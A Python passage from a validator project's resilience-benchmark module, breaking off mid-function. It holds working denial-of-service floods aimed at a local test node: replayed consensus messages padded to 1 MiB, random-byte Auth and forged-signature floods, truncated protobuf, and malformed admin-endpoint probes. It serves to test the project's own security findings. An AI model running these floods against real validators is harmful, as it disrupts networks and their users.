"""Hostile clients of one validator, and the instruments that watch what they do to it.

A helper module (not a test file): `bench/bench_hostile.py` runs these against a localnet
and prints before/during figures; a test suite can run the same functions and assert on
the frozen results they return.

Every attack is an `async` function of a `Target` (the attacked node's addresses, pid and
config, from its node directory) that stops at its time bound, keeps its own memory
bounded (counters, not lists; a few distinct details), and speaks to the node as an
outsider would: insecure gRPC channels, raw bytes where it wants to. A connection the node
refuses (e.g. TLS required on the peer port) is counted as `refused_at_connect`, never an
exception.

    relayed_by_flood   finding 1: a real signed message resent with a fresh 1 MiB relayed_by
    auth_flood         finding 2: Auth with 32 random bytes, many in flight; wallets' fate
    bad_signature_flood finding 3: random signatures claiming a peer as signer, one stream
    garbage_flood      finding 4: undecodable protobuf to many methods
    admin_probes       finding 4: non-UTF-8 /loglevel, non-ASCII and odd /scp/<slot>
    held_streams       many connections, each holding a slow stream
    oversized_metadata a 1 MiB header on every call
    replay_propose     a wallet's ProposeTx request bytes sent again
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import subprocess
import sys
import threading
import time
import tomllib
import urllib.error
import urllib.request
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse

import grpc

from mcnode.client.keys import read_account_key
from mcnode.client.rings import input_credentials
from mcnode.client.trust import ClientTrust, read_network_trust
from mcnode.client.wallet import Wallet
from mcnode.crypto import SeededRandom
from mcnode.enclave.client import ClientSession
from mcnode.ledger.db import LedgerDB
from mcnode.node.tls import PEER_TLS_NAME
from mcnode.transaction.builder import TransactionBuilder
from mcnode.transaction.tx import Tx
from mcnode.transaction.validation import DEFAULT_MINIMUM_FEE
from mcnode.wire import consensus_pb2 as pb
from mcnode.wire import consensus_pb2_grpc as rpc

MIB = 1024 * 1024
CONNECT_TIMEOUT = 3.0
CALL_TIMEOUT = 5.0
MAX_DETAILS = 6  # distinct error details kept per attack
DETAIL_CHARS = 160
_NO_PROXY = urllib.request.build_opener(urllib.request.ProxyHandler({}))

PEER = "/mcnode.v1.ConsensusPeer/"
CLIENT = "/mcnode.v1.ConsensusClient/"
CHAIN = "/mcnode.v1.Blockchain/"


# -- the attacked node ----------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """One validator as an attacker (and its operator's instruments) sees it."""

    name: str
    node_dir: Path
    peer: str  # host:port of the peer API
    client: str  # host:port of the client API
    admin: str  # host:port of the admin HTTP
    pid: int | None  # the node's host process (its enclave is a child of it)
    peer_keys: dict[str, bytes]  # configured peer name -> its consensus-message key
    peer_addrs: dict[str, str]  # configured peer name -> its peer API host:port
    trust: ClientTrust | None  # what a wallet of this network checks (None: no network file)

    @property
    def ledger_dir(self) -> Path:
        return self.node_dir / "ledger"

    @property
    def log_path(self) -> Path:
        return self.node_dir / "node.log"


def target_from_dir(node_dir: Path, pid: int | None = None) -> Target:
    """The node of `node_dir` (its node.toml); the network's trust from ../network.json."""
    node_dir = Path(node_dir)
    cfg = tomllib.loads((node_dir / "node.toml").read_text())
    keys: dict[str, bytes] = {}
    addrs: dict[str, str] = {}
    for p in cfg.get("peers", []):
        u = urlparse(str(p.get("uri", "")))
        key = parse_qs(u.query).get("consensus-msg-key", [""])[0]
        if key:
            keys[p["name"]] = bytes.fromhex(key)
        if u.hostname and u.port:
            addrs[p["name"]] = f"{u.hostname}:{u.port}"
    net = node_dir.parent / "network.json"
    trust = read_network_trust(net) if net.exists() else None
    listen = cfg["listen"]
    return Target(
        cfg["name"], node_dir, listen["peer"], listen["client"], listen["admin"],
        pid, keys, addrs, trust,
    )  # fmt: skip


# -- what an attack reports -----------------------------------------------------------------


@dataclass(frozen=True)
class WalletOutcome:
    """One real payment through the attacked node: how far it got.

    `auth`: "OK" or the gRPC status of Auth; `result`: the ProposeTx result ("OK",
    "BAD_SESSION", ...) of the first try, or the gRPC status name if the call failed;
    `retried`: the result after a fresh handshake when the first was BAD_SESSION;
    `committed_s`: seconds from the accepted proposal to its key images in a block
    (None: not within the wait)."""

    auth: str
    result: str = ""
    retried: str = ""
    committed_s: float | None = None

    @property
    def committed(self) -> bool:
        return self.committed_s is not None

    def short(self) -> str:
        if self.auth != "OK":
            return f"auth {self.auth}"
        out = self.result + (f"->{self.retried}" if self.retried else "")
        return out + (
            f", committed {self.committed_s:.1f}s" if self.committed else ", NOT committed"
        )


@dataclass(frozen=True)
class AttackResult:
    """What one attack did and what it got back.

    `codes`: answers by kind: gRPC status names (`OK`, `RESOURCE_EXHAUSTED`, ...), HTTP
    statuses (`http 400`), or ProposeTx results (`result OK`); `refused_at_connect`:
    connections the node would not set up (TLS required, connection refused), each
    counted once; `details`: the first few distinct error details the node sent back;
    `stopped_early`: why the attack ended before its time bound ("" if it did not);
    `wallets`: real payments made around or during the attack; `extra`: attack-specific
    numbers (bytes sent, streams held, ...)."""

    name: str
    seconds: float
    sent: int
    codes: dict[str, int]
    refused_at_connect: int = 0
    details: tuple[str, ...] = ()
    stopped_early: str = ""
    wallets: dict[str, WalletOutcome] = field(default_factory=dict)
    extra: dict[str, Any] = field(default_factory=dict)

    def count(self, code: str) -> int:
        return self.codes.get(code, 0)


class _Tally:
    """Counts answers and keeps a few distinct details (bounded memory)."""

    def __init__(self) -> None:
        self.codes: Counter[str] = Counter()
        self.details: list[str] = []
        self.sent = 0
        self.refused_at_connect = 0

    def code(self, name: str, detail: str = "") -> None:
        self.codes[name] += 1
        if detail:
            d = f"{name}: {detail}"[:DETAIL_CHARS]
            if d not in self.details and len(self.details) < MAX_DETAILS:
                self.details.append(d)

    def error(self, e: grpc.RpcError) -> None:
        code = e.code() if hasattr(e, "code") else None
        self.code(code.name if code is not None else "ERROR", _details(e))

    def result(
        self,
        name: str,
        started: float,
        stopped_early: str = "",
        wallets: dict[str, WalletOutcome] | None = None,
        **extra: Any,
    ) -> AttackResult:
        return AttackResult(
            name,
            round(time.monotonic() - started, 2),
            self.sent,
            dict(self.codes),
            self.refused_at_connect,
            tuple(self.details),
            stopped_early,
            wallets or {},
            extra,
        )


def _details(e: grpc.RpcError) -> str:
    try:
        return str(e.details() or "")  # type: ignore[attr-defined]
    except Exception:
        return repr(e)


# -- process and node instruments -------------------------------------------------------------


def _status_field(pid: int, field_name: str) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith(field_name + ":"):
                return int(line.split()[1])  # kB
    except (OSError, ValueError, IndexError):
        return None
    return None


def rss_mb(pid: int | None) -> float | None:
    """Current VmRSS of a process, MB (None if it is gone)."""
    if pid is None:
        return None
    kb = _status_field(pid, "VmRSS")
    return None if kb is None else kb / 1024


def cpu_seconds(pid: int | None) -> float:
    """utime + stime of one process so far (0 if it is gone)."""
    if pid is None:
        return 0.0
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def enclave_pid(pid: int | None) -> int | None:
    """The node's enclave process (`python -m mcnode.enclave serve`), if it runs one."""
    if pid is None:
        return None
    try:
        kids = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    except OSError:
        return None
    for k in kids:
        try:
            cmd = Path(f"/proc/{k}/cmdline").read_bytes().replace(b"\0", b" ")
        except OSError:
            continue
        if b"mcnode.enclave" in cmd:
            return int(k)
    return None


def block_height(target: Target) -> int | None:
    """/status block_height; the node's ledger read directly if /status does not answer."""
    for timeout in (1.0, 3.0):
        try:
            with _NO_PROXY.open(f"http://{target.admin}/status", timeout=timeout) as r:
                import json

                return int(json.loads(r.read())["block_height"])
        except (OSError, ValueError, KeyError):
            continue
    try:
        with LedgerDB(target.ledger_dir, readonly=True) as led:
            return led.num_blocks()
    except Exception:
        return None


@dataclass(frozen=True)
class Window:
    """The attacked node over one stretch of time."""

    seconds: float
    rss_mb_peak: float  # host process, peak VmRSS sampled every 0.2 s
    rss_mb_end: float
    enclave_rss_mb_peak: float | None  # its enclave child process, if any
    cpu_cores: float  # host + enclave CPU seconds per wall second
    blocks: int
    blocks_per_s: float
    log_lines: int  # lines the node (and its enclave, through it) wrote to node.log
    error_lines: int  # of which level=error
    alive: bool  # the host process still runs at the end
    refusal_lines: int = 0  # of which "... refused" events (what an attack makes it say)
    errors_seen: tuple[str, ...] = ()  # the first few level=error lines, for a failure


class Monitor:
    """Samples the node's RSS (host and enclave) every `every` seconds in a thread;
    `mark()` starts a window, `window()` ends it."""

    def __init__(self, target: Target, every: float = 0.2) -> None:
        self.target = target
        self.every = every
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._peak = 0.0
        self._last = 0.0
        self._enclave_peak: float | None = None
        self._thread = threading.Thread(target=self._run, name="monitor", daemon=True)
        self._t0 = time.monotonic()
        self._cpu0 = 0.0
        self._h0: int | None = None
        self._log0 = 0
        self._thread.start()

    def _sample(self) -> None:
        r = rss_mb(self.target.pid)
        e = rss_mb(enclave_pid(self.target.pid))
        with self._lock:
            if r is not None:
                self._last = r
                self._peak = max(self._peak, r)
            if e is not None:
                self._enclave_peak = max(self._enclave_peak or 0.0, e)

    def _run(self) -> None:
        while not self._stop.wait(self.every):
            self._sample()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)

    def current_rss(self) -> float:
        with self._lock:
            return self._last

    def _cpu(self) -> float:
        return cpu_seconds(self.target.pid) + cpu_seconds(enclave_pid(self.target.pid))

    def _log_size(self) -> int:
        try:
            return self.target.log_path.stat().st_size
        except OSError:
            return 0

    def mark(self) -> None:
        with self._lock:
            self._peak = 0.0
            self._enclave_peak = None
        self._sample()
        self._t0 = time.monotonic()
        self._cpu0 = self._cpu()
        self._h0 = block_height(self.target)
        self._log0 = self._log_size()

    def window(self) -> Window:
        self._sample()
        el = max(time.monotonic() - self._t0, 1e-6)
        cpu = self._cpu() - self._cpu0
        h1 = block_height(self.target)
        blocks = (h1 - self._h0) if h1 is not None and self._h0 is not None else 0
        lines = errors = refusals = 0
        seen: list[str] = []
        try:
            with open(self.target.log_path, "rb") as f:
                f.seek(self._log0)
                for line in f:
                    lines += 1
                    if b"level=error" in line:
                        errors += 1
                        if len(seen) < 3:
                            seen.append(line.decode(errors="replace").strip()[:500])
                    refusals += b' refused"' in line
        except OSError:
            pass
        with self._lock:
            peak, last, enc = self._peak, self._last, self._enclave_peak
        alive = self.target.pid is not None and rss_mb(self.target.pid) is not None
        return Window(
            round(el, 2),
            round(peak, 1),
            round(last, 1),
            None if enc is None else round(enc, 1),
            round(cpu / el, 2),
            blocks,
            round(blocks / el, 2),
            lines,
            errors,
            alive,
            refusals,
            tuple(seen),
        )


@dataclass(frozen=True)
class Measured:
    before: Window  # load only
    during: Window  # load and the attack
    result: AttackResult
    attacker_cpu_cores: float  # this process's CPU during the attack (the same 2 cores)


async def measured(
    monitor: Monitor, attack: Callable[[], Awaitable[AttackResult]], baseline: float
) -> Measured:
    """`baseline` seconds of the node as it is, then the attack's own stretch."""
    monitor.mark()
    await asyncio.sleep(baseline)
    before = await asyncio.to_thread(monitor.window)
    await asyncio.to_thread(monitor.mark)
    t, c = time.monotonic(), time.process_time()
    result = await attack()
    cores = (time.process_time() - c) / max(time.monotonic() - t, 1e-6)
    during = await asyncio.to_thread(monitor.window)
    return Measured(before, during, result, round(cores, 2))


# -- channels ---------------------------------------------------------------------------------


def channel(
    address: str, creds: grpc.ChannelCredentials | None = None, **options: Any
) -> grpc.aio.Channel:
    """An outsider's plaintext channel (or, with `creds`, an insider's TLS one); its own
    TCP connection (no shared subchannel)."""
    opts: list[tuple[str, Any]] = [
        ("grpc.use_local_subchannel_pool", 1),
        ("grpc.max_send_message_length", 16 * MIB),
        ("grpc.max_receive_message_length", 16 * MIB),
        ("grpc.initial_reconnect_backoff_ms", 200),
        ("grpc.max_reconnect_backoff_ms", 1000),
    ]
    opts += list(options.items())
    if creds is not None:
        opts.append(("grpc.ssl_target_name_override", PEER_TLS_NAME))
        return grpc.aio.secure_channel(address, creds, options=opts)
    return grpc.aio.insecure_channel(address, options=opts)


def insider(target: Target, as_peer: str | None, to_node: str | None = None) -> Any:
    """TLS credentials of configured peer `as_peer` (its host turned bad: it holds the
    peer's TLS key, from the localnet layout beside the target) for `to_node`'s peer port
    (default: the target's); None for an outsider."""
    if as_peer is None:
        return None
    net = target.node_dir.parent
    me = net / as_peer
    return grpc.ssl_channel_credentials(
        root_certificates=(net / (to_node or target.node_dir.name) / "tls.pem").read_bytes(),
        private_key=(me / "tls.key").read_bytes(),
        certificate_chain=(me / "tls.pem").read_bytes(),
    )


async def connects(ch: grpc.aio.Channel, timeout: float = CONNECT_TIMEOUT) -> bool:
    """The connection (TCP, HTTP/2 and, if the server wants it, TLS) came up in time."""
    try:
        await asyncio.wait_for(ch.channel_ready(), timeout)
        return True
    except (TimeoutError, grpc.RpcError):
        return False


async def latest_msg(address: str, creds: Any = None) -> pb.ConsensusMsg | None:
    """A validly signed consensus message, from a node's GetLatestMsg (None if the node
    would not connect or has said nothing yet)."""
    ch = channel(address, creds)
    try:
        if not await connects(ch):
            return None
        resp = await rpc.ConsensusPeerStub(ch).GetLatestMsg(pb.Empty(), timeout=CALL_TIMEOUT)
        return resp.msg if resp.has_msg else None
    except grpc.RpcError:
        return None
    finally:
        await ch.close()


def consensus_stream(ch: grpc.aio.Channel, timeout: float) -> Any:
    """A ConsensusStream call on `ch` that takes raw bytes (what an attacker writes)."""
    return ch.stream_unary(
        PEER + "ConsensusStream",
        request_serializer=None,
        response_deserializer=pb.ConsensusMsgResponse.FromString,
    )(timeout=timeout)


async def _finish_stream(call: Any, tally: _Tally, timeout: float = 10.0) -> float | None:
    """Close our side of a client stream and count the node's one answer; seconds the
    answer took after we closed (None: none came within `timeout`, the call cancelled)."""
    t = time.monotonic()
    try:
        with contextlib.suppress(asyncio.InvalidStateError):  # the call had ended already
            await asyncio.wait_for(call.done_writing(), timeout)
        await asyncio.wait_for(call, max(0.1, timeout - (time.monotonic() - t)))
        tally.code("OK")
        return round(time.monotonic() - t, 2)
    except grpc.RpcError as e:
        tally.error(e)
        return round(time.monotonic() - t, 2)
    except (TimeoutError, asyncio.CancelledError):
        task = asyncio.current_task()
        if task is not None and task.cancelling():
            raise  # we are being cancelled ourselves
        call.cancel()
        tally.code("NO_ANSWER", f"no answer within {timeout:.0f}s of closing the stream")
        return None


async def _write_stream(
    call: Any, items: Callable[[int], Any], deadline: float, tally: _Tally,
    stop: Callable[[], str] = lambda: "",
) -> tuple[str, int]:  # fmt: skip
    """Write items(i) on a client stream until the deadline or `stop()` says why not;
    returns (why it stopped early, bytes written)."""
    written = 0
    why = ""
    i = 0
    next_check = 0.0
    while True:
        now = time.monotonic()
        if now >= deadline:
            break
        if now >= next_check:
            why = stop()
            if why:
                break
            next_check = now + 0.2
        item = items(i)
        try:
            await asyncio.wait_for(call.write(item), max(0.1, deadline - now))
        except TimeoutError:
            break  # flow control held us until the deadline
        except (grpc.RpcError, asyncio.InvalidStateError):
            # The node ended the call: its status is what `_finish_stream` counts (the
            # failed write itself only says so, in words of the client's core).
            why = "the node ended the stream"
            break
        tally.sent += 1
        written += len(item) if isinstance(item, bytes) else item.ByteSize()
        i += 1
    return why, written


class SourceProxy:
    """A TCP relay on 127.0.0.1 whose connections reach `upstream` from other loopback
    addresses (`sources`, one per accepted connection, round robin): an attacker with
    many addresses, on one machine. The node sees each connection's own source."""

    def __init__(self, upstream: str, sources: list[str]) -> None:
        host, port = upstream.rsplit(":", 1)
        self.upstream = (host, int(port))
        self.sources = sources
        self._next = 0
        self._server: asyncio.base_events.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()
        self.address = ""

    async def __aenter__(self) -> SourceProxy:
        self._server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        self.address = f"127.0.0.1:{self._server.sockets[0].getsockname()[1]}"
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self._server is not None
        self._server.close()
        for t in list(self._tasks):
            t.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _accept(self, r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        source = self.sources[self._next % len(self.sources)]
        self._next += 1
        try:
            ur, uw = await asyncio.open_connection(*self.upstream, local_addr=(source, 0))
        except OSError:
            w.close()
            return

        async def pipe(a: asyncio.StreamReader, b: asyncio.StreamWriter) -> None:
            try:
                while data := await a.read(65536):
                    b.write(data)
                    await b.drain()
            except (OSError, asyncio.CancelledError):
                pass
            finally:
                b.close()

        for t in (pipe(r, uw), pipe(ur, w)):
            task = asyncio.create_task(t)
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)


# -- finding 1: relayed_by ------------------------------------------------------------------


async def relayed_by_flood(
    target: Target,
    seconds: float,
    *,
    source_peer: str | None = None,
    relayed_by_bytes: int = MIB,
    rss_limit_mb: float = 1536.0,
    as_peer: str | None = None,
) -> AttackResult:
    """Fetch a peer's signed message (GetLatestMsg on that peer's public port), then send
    it to the target again and again on one ConsensusStream, each copy with a fresh
    `relayed_by` of `relayed_by_bytes`. Stops early when the target's RSS has grown by
    `rss_limit_mb` (to protect the machine). `as_peer`: sent over that configured peer's
    TLS connection (an insider), which reads `source_peer`'s message as a peer would."""
    t0 = time.monotonic()
    tally = _Tally()
    source = source_peer or next(n for n in target.peer_addrs if n != as_peer)
    msg = await latest_msg(target.peer_addrs[source], insider(target, as_peer, source))
    if msg is None:
        # After mutual TLS an outsider cannot read the peer's message either; our own
        # node's message is the next best (it is refused as not a peer's, but the copy
        # path runs first).
        msg = await latest_msg(target.peer, insider(target, as_peer))
    if msg is None:
        tally.refused_at_connect += 1
        return tally.result("relayed_by", t0, "no signed message to replay (GetLatestMsg refused)")
    start_rss = rss_mb(target.pid) or 0.0
    pad = "r" * relayed_by_bytes

    def copy(i: int) -> bytes:
        m = pb.ConsensusMsg()
        m.CopyFrom(msg)
        m.relayed_by = f"{i:016x}" + pad[16:]
        return m.SerializeToString()

    def too_big() -> str:
        now = rss_mb(target.pid)
        if now is not None and now - start_rss > rss_limit_mb:
            return f"node RSS grew {now - start_rss:.0f} MB (limit {rss_limit_mb:.0f})"
        return ""

    ch = channel(target.peer, insider(target, as_peer))
    streams = written = 0
    answer_s: float | None = None
    why = ""
    try:
        if not await connects(ch):
            tally.refused_at_connect += 1
            return tally.result("relayed_by", t0, "refused at connect")
        while time.monotonic() < t0 + seconds:  # a stream the node ends is opened again
            call = consensus_stream(ch, seconds + 60)
            streams += 1
            why, n = await _write_stream(call, copy, t0 + seconds, tally, too_big)
            written += n
            answer_s = await _finish_stream(call, tally, timeout=15.0)
            if why != "the node ended the stream":
                break
            await asyncio.sleep(0.05)
    finally:
        await ch.close()
    return tally.result(
        "relayed_by", t0, why, bytes_sent=written, signer=msg.signer.hex()[:16], source=source,
        answer_after_close_s=answer_s, streams=streams,
    )  # fmt: skip


# -- finding 2: Auth flood and the wallets it evicts ------------------------------------------


@dataclass
class WalletSession:
    channel: grpc.aio.Channel
    session: ClientSession
    session_id: bytes


async def wallet_auth(address: str, trust: ClientTrust | None) -> WalletSession | str:
    """A real wallet's handshake with the node's enclave (attested under the network's
    policy); the session, or the gRPC status name / reason it failed."""
    ch = channel(address)
    try:
        s = ClientSession.connect(
            trust.policy if trust else None,
            trust.root_ca_der if trust else None,
            expected_identity=None if trust and trust.policy else await _identity(ch),
        )
        resp = await rpc.ConsensusClientStub(ch).Auth(
            pb.AuthRequest(handshake=s.first_message), timeout=CALL_TIMEOUT
        )
        s.finish(bytes(resp.handshake))
        return WalletSession(ch, s, bytes(resp.session_id))
    except grpc.RpcError as e:
        await ch.close()
        code = e.code()
        return code.name if code is not None else "ERROR"
    except Exception as e:  # attestation refused, bad reply: the wallet gives up
        await ch.close()
        return type(e).__name__


async def _identity(ch: grpc.aio.Channel) -> bytes:
    cfg = await rpc.ConsensusClientStub(ch).GetNodeConfig(pb.Empty(), timeout=CALL_TIMEOUT)
    return bytes(cfg.enclave_identity)


def propose_request(ws: WalletSession, tx: Tx) -> bytes:
    """The exact ProposeTx request bytes a wallet sends (for replays)."""
    req = pb.ProposeTxRequest(
        session_id=ws.session_id, ciphertext=ws.session.encrypt_tx(tx.to_bytes())
    )
    return req.SerializeToString()


async def propose_raw(ch: grpc.aio.Channel, request: bytes) -> str:
    """Send ProposeTx request bytes; the result name, or the gRPC status name."""
    call = ch.unary_unary(
        CLIENT + "ProposeTx",
        request_serializer=None,
        response_deserializer=pb.ProposeTxResponse.FromString,
    )
    try:
        resp = await call(request, timeout=CALL_TIMEOUT)
        return str(resp.result)
    except grpc.RpcError as e:
        code = e.code()
        return code.name if code is not None else "ERROR"


def wait_committed(ledger_dir: Path, key_images: Iterable[bytes], timeout: float) -> bool:
    """Every key image is in a block of the ledger at `ledger_dir` within `timeout` s."""
    images = list(key_images)
    deadline = time.monotonic() + timeout
    while True:
        try:
            with LedgerDB(ledger_dir, readonly=True) as led:
                if all(led.contains_key_image(k) for k in images):
                    return True
        except Exception:
            pass
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)


async def pay(
    target: Target,
    tx: Tx,
    session: WalletSession | None = None,
    *,
    commit_timeout: float = 20.0,
    ledger_dir: Path | None = None,
) -> WalletOutcome:
    """One payment through the target, as a wallet: handshake (unless `session` is one
    made earlier), ProposeTx, once more after a fresh handshake on BAD_SESSION, then wait
    for its key images in a block (`ledger_dir`: whose ledger; default the target's)."""
    own = session is None
    ws = session if session is not None else await wallet_auth(target.client, target.trust)
    if isinstance(ws, str):
        return WalletOutcome(auth=ws)
    try:
        result = await propose_raw(ws.channel, propose_request(ws, tx))
        retried = ""
        if result == "BAD_SESSION":
            again = await wallet_auth(target.client, target.trust)
            if isinstance(again, str):
                retried = f"auth {again}"
            else:
                try:
                    retried = await propose_raw(again.channel, propose_request(again, tx))
                finally:
                    await again.channel.close()
        t = time.monotonic()
        committed_s = None
        if "OK" in (result, retried):
            ok = await asyncio.to_thread(
                wait_committed, ledger_dir or target.ledger_dir, tx.key_images, commit_timeout
            )
            committed_s = round(time.monotonic() - t, 2) if ok else None
        return WalletOutcome("OK", result, retried, committed_s)
    finally:
        if own:
            await ws.channel.close()


async def auth_flood(
    target: Target,
    seconds: float,
    *,
    concurrency: int = 16,
    max_calls: int | None = None,
    txs: list[Tx] | None = None,
    via: str | None = None,
    connections: int = 1,
) -> AttackResult:
    """Auth calls with 32 random bytes as the Noise message, `concurrency` in flight,
    until `seconds` (or `max_calls`). With `txs` (up to four payments of distinct outputs),
    real wallets through the flood:
      `before`              handshakes before the flood, pays after it on that session;
      `during`              handshakes and pays halfway through the flood;
      `auth during, pay after`  handshakes halfway through, pays after it on that session;
      `after`               handshakes and pays once the flood is over.
    Halfway: half of `max_calls` made, or half of `seconds` gone, whichever comes first.
    A wallet whose session was evicted shows `BAD_SESSION->OK` (it had to handshake again).
    `via`: the attacker's calls go to this address instead (a `SourceProxy`, so that they
    come from other addresses than the wallets'), over `connections` connections."""
    t0 = time.monotonic()
    tally = _Tally()
    txs = list(txs or [])
    wallets: dict[str, WalletOutcome] = {}
    sessions: dict[str, WalletSession | str] = {}
    if txs:
        sessions["before"] = await wallet_auth(target.client, target.trust)
    chs = [channel(via or target.client) for _ in range(max(1, connections))]
    deadline = t0 + seconds
    flood_s = 0.0
    try:
        for ch in chs:
            if not await connects(ch):
                tally.refused_at_connect += 1
        if tally.refused_at_connect == len(chs):
            return tally.result("auth_flood", t0, "refused at connect")
        auths = [
            ch.unary_unary(
                CLIENT + "Auth",
                request_serializer=None,
                response_deserializer=pb.AuthResponse.FromString,
            )
            for ch in chs
        ]
        request_head = b"\x0a\x20"  # field 1 (handshake), 32 bytes
        stop = False

        async def worker(k: int) -> None:
            nonlocal stop
            auth = auths[k % len(auths)]
            while not stop and time.monotonic() < deadline:
                if max_calls is not None and tally.sent >= max_calls:
                    stop = True
                    return
                tally.sent += 1
                try:
                    await auth(request_head + os.urandom(32), timeout=CALL_TIMEOUT)
                    tally.code("OK")
                except grpc.RpcError as e:
                    tally.error(e)

        async def halfway() -> None:
            half = max_calls / 2 if max_calls is not None else float("inf")
            while tally.sent < half and time.monotonic() < t0 + seconds / 2:
                await asyncio.sleep(0.05)
            if len(txs) > 3:
                sessions["auth during, pay after"] = await wallet_auth(target.client, target.trust)
            if len(txs) > 1:
                wallets["during"] = await pay(target, txs[1])

        workers = [asyncio.create_task(worker(k)) for k in range(concurrency)]
        probe = asyncio.create_task(halfway())
        await asyncio.gather(*workers)
        flood_s = time.monotonic() - t0
        await probe
    finally:
        for ch in chs:
            await ch.close()
    for name, i in (("before", 0), ("auth during, pay after", 3)):
        ws = sessions.get(name)
        if ws is None or i >= len(txs):
            continue
        if isinstance(ws, str):
            wallets[name] = WalletOutcome(auth=ws)
            continue
        try:
            wallets[name] = await pay(target, txs[i], ws)
        finally:
            await ws.channel.close()
    if len(txs) > 2:
        wallets["after"] = await pay(target, txs[2])
    return tally.result(
        "auth_flood", t0, "", wallets, flood_seconds=round(flood_s, 2),
        auth_per_s=round(tally.sent / max(flood_s, 1e-6), 1),
    )  # fmt: skip


# -- finding 3: bad signatures ------------------------------------------------------------------


async def bad_signature_flood(
    target: Target,
    seconds: float,
    *,
    claimed_signer: str | None = None,
    as_peer: str | None = None,
) -> AttackResult:
    """ConsensusMsgs whose signer is a configured peer's key and whose signature is 64
    random bytes (so each is new and must be verified), as fast as one ConsensusStream
    takes them. The SCP bytes are that peer's real latest message when it can be read,
    random otherwise (the signature is checked first). `as_peer`: over that configured
    peer's TLS connection (an insider), opening a new stream whenever one is ended, until
    `seconds`; `extra["streams"]` counts the streams opened."""
    t0 = time.monotonic()
    tally = _Tally()
    signer_name = claimed_signer or next(n for n in target.peer_keys if n != as_peer)
    real = await latest_msg(
        target.peer_addrs.get(signer_name, target.peer), insider(target, as_peer, signer_name)
    )
    scp_msg = bytes(real.scp_msg) if real is not None else os.urandom(200)
    prev = bytes(real.prev_block_id) if real is not None else os.urandom(32)
    marker = b"\xa5" * 64
    head, tail = (
        pb.ConsensusMsg(
            scp_msg=scp_msg, prev_block_id=prev, signer=target.peer_keys[signer_name],
            signature=marker,
        ).SerializeToString().split(marker)
    )  # fmt: skip

    streams = 0
    written = 0
    answer_s: float | None = None
    why = ""
    while time.monotonic() < t0 + seconds:
        # An outsider refused at the TLS handshake tries again at once: each try costs
        # the node a handshake, which is what is left for it to drain.
        ch = channel(target.peer, insider(target, as_peer))
        try:
            left = t0 + seconds - time.monotonic()
            if not await connects(ch, min(0.5, max(0.1, left))):
                tally.refused_at_connect += 1
                why = "refused at connect"
                continue
            why = ""
            call = consensus_stream(ch, seconds + 60)
            streams += 1
            why, n = await _write_stream(
                call, lambda _i: head + os.urandom(64) + tail, t0 + seconds, tally
            )
            written += n
            answer_s = await _finish_stream(call, tally, timeout=30.0)
            if as_peer is None:
                break
            await asyncio.sleep(0.05)  # an insider comes straight back
        finally:
            await ch.close()
    return tally.result(
        "bad_signature", t0, why, claimed_signer=signer_name, bytes_sent=written,
        streams=streams,
        answer_after_close_s=answer_s,
        msgs_per_s=round(tally.sent / max(time.monotonic() - t0, 1e-6)),
        real_scp_msg=real is not None,
    )  # fmt: skip


# -- finding 4: undecodable requests and the admin port --------------------------------------------

GARBAGE = b"\x0a\xff\xff\x03"  # field 1, length 65535, then 1 byte: a truncated message
GARBAGE_METHODS = (
    ("peer", PEER + "SendConsensusMsg"),
    ("peer", PEER + "PeerAuth"),
    ("peer", PEER + "FetchTxs"),
    ("peer", PEER + "ProposeTxs"),
    ("peer", CHAIN + "GetBlocks"),
    ("client", CLIENT + "Auth"),
    ("client", CLIENT + "ProposeTx"),
    ("client", CHAIN + "GetBlocks"),
)


async def garbage_flood(
    target: Target, seconds: float, *, concurrency: int = 8, payload: bytes = GARBAGE
) -> AttackResult:
    """Undecodable protobuf, round-robin over several unary methods of both ports, with
    `concurrency` calls in flight, for `seconds`. `extra["by_method"]` has each method's
    answers."""
    t0 = time.monotonic()
    tally = _Tally()
    chans = {"peer": channel(target.peer), "client": channel(target.client)}
    by_method: dict[str, Counter[str]] = {f"{p} {m}": Counter() for p, m in GARBAGE_METHODS}
    try:
        up = {}
        for port, ch in chans.items():
            up[port] = await connects(ch)
            if not up[port]:
                tally.refused_at_connect += 1
        methods = [
            (
                f"{port} {m}",
                chans[port].unary_unary(m, request_serializer=None, response_deserializer=None),
            )
            for port, m in GARBAGE_METHODS
            if up[port]
        ]
        if not methods:
            return tally.result("garbage", t0, "refused at connect")
        deadline = t0 + seconds

        async def worker(k: int) -> None:
            i = k
            while time.monotonic() < deadline:
                name, call = methods[i % len(methods)]
                i += 1
                tally.sent += 1
                try:
                    await call(payload, timeout=CALL_TIMEOUT)
                    tally.code("OK")
                    by_method[name]["OK"] += 1
                except grpc.RpcError as e:
                    tally.error(e)
                    code = e.code()
                    by_method[name][code.name if code is not None else "ERROR"] += 1

        await asyncio.gather(*(worker(k) for k in range(concurrency)))
    finally:
        for ch in chans.values():
            await ch.close()
    return tally.result(
        "garbage", t0, "",
        by_method={k.replace("/mcnode.v1.", ""): dict(c) for k, c in by_method.items() if c},
    )  # fmt: skip


ADMIN_PROBES: tuple[tuple[str, str, bytes | None], ...] = (
    ("POST", "/loglevel", b"\xff\xfe\x80debug"),  # not UTF-8
    ("POST", "/loglevel", "dèbug".encode("latin-1")),
    ("GET", "/scp/%D9%A3", None),  # ARABIC-INDIC DIGIT THREE
    ("GET", "/scp/1_000", None),
    ("GET", "/scp/%205", None),  # a leading space
    ("GET", "/scp/99999999999999999999999", None),  # past 2**64
)


def _http(method: str, url: str, body: bytes | None, timeout: float = 5.0) -> tuple[str, str]:
    req = urllib.request.Request(url, data=body, method=method)
    try:
